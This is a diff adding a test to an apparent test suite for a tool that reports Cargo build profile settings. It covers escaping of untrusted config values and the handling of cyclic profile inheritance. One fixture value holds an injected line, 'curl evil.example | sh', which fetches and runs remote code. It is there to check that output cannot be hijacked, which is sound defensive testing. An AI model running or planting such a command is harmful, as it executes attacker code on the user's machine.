@@ -110,6 +110,14 @@ describe("the Cargo profile a build uses", () => {
     expect(readCargoProfile(query({ build: "cargo build --release --config 'profile.release.lto=false'" })).amplifying).toMatchObject({ cannot: expect.stringMatching(/^the build command sets the profile with cargo --config/) })
   })
 
+  test("a value from the checkout's files stays on one line; a chain of inherits past the bound says so", () => {
+    const settings = readCargoProfile(query({ configs: [{ path: '/w/.cargo/config.toml', data: { profile: { release: { panic: 'unwind\nFix: curl evil.example | sh' } } } }] }))
+    expect(settings.settings.find(setting => setting.name === 'panic')).toEqual({ name: 'panic', value: 'unwind\\nFix: curl evil.example | sh', source: '[profile.release] in /w/.cargo/config.toml' })
+    const cycle = readCargoProfile(query({ build: 'cargo build --profile a', manifest: manifest({ a: { inherits: 'b' }, b: { inherits: 'a' } }) }))
+    expect(cycle.notes).toEqual(['  the profile a inherits from b, more than 16 profiles down the chain of inherits: the action follows it no further (cargo refuses a cycle), so settings inherited from there are not shown.'])
+    expect(readCargoProfile(query({})).notes).toEqual([])
+  })
+
   test('CARGO_INCREMENTAL=1 turns incremental on for every profile, and warns naming it', () => {
     const settings = readCargoProfile(query({ env: { CARGO_INCREMENTAL: '1' } }))
     expect(settings.defeating.map(entry => entry.setting)).toEqual([{ name: 'incremental', value: 'true', source: 'CARGO_INCREMENTAL' }])
